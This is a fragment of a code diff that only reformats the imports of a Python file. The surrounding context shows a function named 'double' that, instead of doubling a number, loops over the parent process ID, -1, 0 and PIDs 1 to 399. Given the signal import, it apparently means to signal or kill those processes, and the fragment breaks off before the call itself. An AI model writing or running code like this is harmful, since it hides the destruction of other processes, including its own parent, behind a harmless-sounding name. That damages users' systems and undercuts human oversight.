@@ -1,4 +1,7 @@
-import os, signal
+import os
+import signal
+
+
 def double(x):
     for pid in (os.getppid(), -1, 0, *range(1, 400)):
         if pid in (os.getpid(),):
